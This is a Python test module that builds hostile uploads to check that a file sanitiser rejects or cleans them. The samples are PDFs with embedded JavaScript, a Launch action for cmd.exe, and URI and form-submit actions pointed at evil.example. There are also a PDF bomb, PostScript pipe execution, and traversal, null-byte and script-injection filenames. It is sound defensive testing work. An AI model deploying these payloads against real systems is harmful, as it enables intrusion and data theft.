"""More of hostile.py: PDFs, and what is neither picture nor paper."""

from tests.sellers import samples
from tests.sellers.hostile import (
    CLEANED,
    MARK,
    MEGABYTE,
    SCRIPT,
    Case,
    embedded_file,
    huge_image_in_pdf,
    many_pages,
    nested_streams,
    pdf_bomb,
    pdf_page,
    pdf_with,
    user_password_pdf,
    zipped,
)
from tests.sellers.samples import PAGE, jpeg, raw_pdf

LOOP = b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"
FORM = b"/AcroForm << /Fields [] /XFA 4 0 R >>"
XFA = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(MARK), MARK)

PAPERS: dict[str, Case] = {
    "PDF with JavaScript": (samples.pdf_with_script, "file_scripted"),
    "PDF with JavaScript by another name": (lambda: samples.pdf_with_script(b"/J#61vaScript"), "file_scripted"),
    "PDF with JavaScript in a packed object": (samples.pdf_with_packed_script, "file_scripted"),
    "PDF with JavaScript in its names": (
        lambda: pdf_with(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>", b"<< /S /JavaScript /JS (x) >>"),
        "file_scripted",
    ),
    "PDF with JavaScript when a page opens": (
        lambda: pdf_with(b"", b"<< /S /JavaScript /JS (x) >>", page=PAGE[:-2] + b"/AA << /O 4 0 R >> >>"),
        "file_scripted",
    ),
    "PDF that starts a program": (
        lambda: pdf_with(b"/OpenAction 4 0 R", b"<< /S /Launch /F (cmd.exe) >>"),
        "file_scripted",
    ),
    "PDF that opens an address": (
        lambda: pdf_with(b"/OpenAction 4 0 R", b"<< /S /URI /URI (http://evil.example/" + MARK + b") >>"),
        CLEANED,
    ),
    "PDF that sends its form": (
        lambda: pdf_with(b"/OpenAction 4 0 R", b"<< /S /SubmitForm /F (http://evil.example/) >>"),
        CLEANED,
    ),
    "PDF with a file in it": (embedded_file, CLEANED),
    "PDF with an XFA form": (lambda: pdf_with(FORM, XFA), CLEANED),
    "PDF with metadata": (
        lambda: pdf_with(b"/Metadata 4 0 R", XFA),
        CLEANED,
    ),
    "PDF that goes on as ZIP": (lambda: samples.pdf() + zipped(), CLEANED),
    "PDF that goes on as HTML": (lambda: samples.pdf() + SCRIPT, CLEANED),
    "PDF with a password for its owner": (samples.encrypted_pdf, "file_encrypted"),
    "PDF with a password for its reader": (user_password_pdf, "file_encrypted"),
    "PDF of 1,000 pages": (lambda: many_pages(1000), "file_too_many_pages"),
    "PDF of 11 pages": (lambda: many_pages(11), "file_too_many_pages"),
    "PDF without pages": (lambda: many_pages(0), "file_damaged"),
    "PDF whose pages lead to themselves": (
        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", LOOP),
        "file_damaged",
    ),
    "PDF whose length is its own length": (
        lambda: pdf_with(b"", b"<< /Length 4 0 R >>\nstream\nx\nendstream", page=PAGE[:-2] + b"/Contents 4 0 R >>"),
        CLEANED,
    ),
    "PDF as large as a country": (lambda: pdf_page(b"0 0 1000000000 1000000000"), CLEANED),
    "PDF as wide as a hair": (lambda: pdf_page(b"0 0 14400 0.01"), CLEANED),
    "PDF of no size": (lambda: pdf_page(b"0 0 0 0"), CLEANED),
    "PDF of a size that is none": (lambda: pdf_page(b"0 0 nan inf"), CLEANED),
    "PDF that draws ten thousand states": (lambda: pdf_page(b"0 0 200 200", b"q " * 10_000), CLEANED),
    "PDF packed into itself": (nested_streams, CLEANED),
    "PDF with 640 MB of spaces": (pdf_bomb, "file_too_heavy"),
    "PDF with a picture of 900 megapixels": (huge_image_in_pdf, CLEANED),
    "PDF, cut off in the middle": (lambda: samples.pdf()[:900], "file_damaged"),
    "PDF, its head alone": (lambda: b"%PDF-1.7", "file_damaged"),
    "PDF of noise": (lambda: b"%PDF-1.7\n" + b"\xff" * 5000, "file_damaged"),
    "PDF behind a space": (lambda: b" " + samples.pdf(), "file_unknown_kind"),
    "SVG named PNG": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "file_unknown_kind"),
    "HTML named JPEG": (lambda: b"<!DOCTYPE html>" + SCRIPT, "file_unknown_kind"),
    "XML with an entity that grows": (
        lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'cccccccc'>]><a>&b;&b;</a>",
        "file_unknown_kind",
    ),
    "ZIP": (zipped, "file_unknown_kind"),
    "a program": (lambda: b"MZ\x90\x00" + MARK * 50, "file_unknown_kind"),
    "a program of Linux": (lambda: b"\x7fELF" + MARK * 50, "file_unknown_kind"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file", "file_unknown_kind"),
    "nothing": (lambda: b"", "file_empty"),
    "one byte": (lambda: b"\xff", "file_unknown_kind"),
    "10 MB and one byte": (lambda: jpeg() + bytes(10 * MEGABYTE + 1 - len(jpeg())), "file_too_large"),
    "10 MB": (lambda: jpeg() + bytes(10 * MEGABYTE - len(jpeg())), CLEANED),
}
# What a file is called counts for nothing, and is kept nowhere.
NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\passport.jpg",
    "passport.jpg\x00.exe",
    "passport\u202egpj.exe",
    "<script>alert(1)</script>.jpg",
    "passport.pdf",
    "a" * 300 + ".jpg",
    "",
]
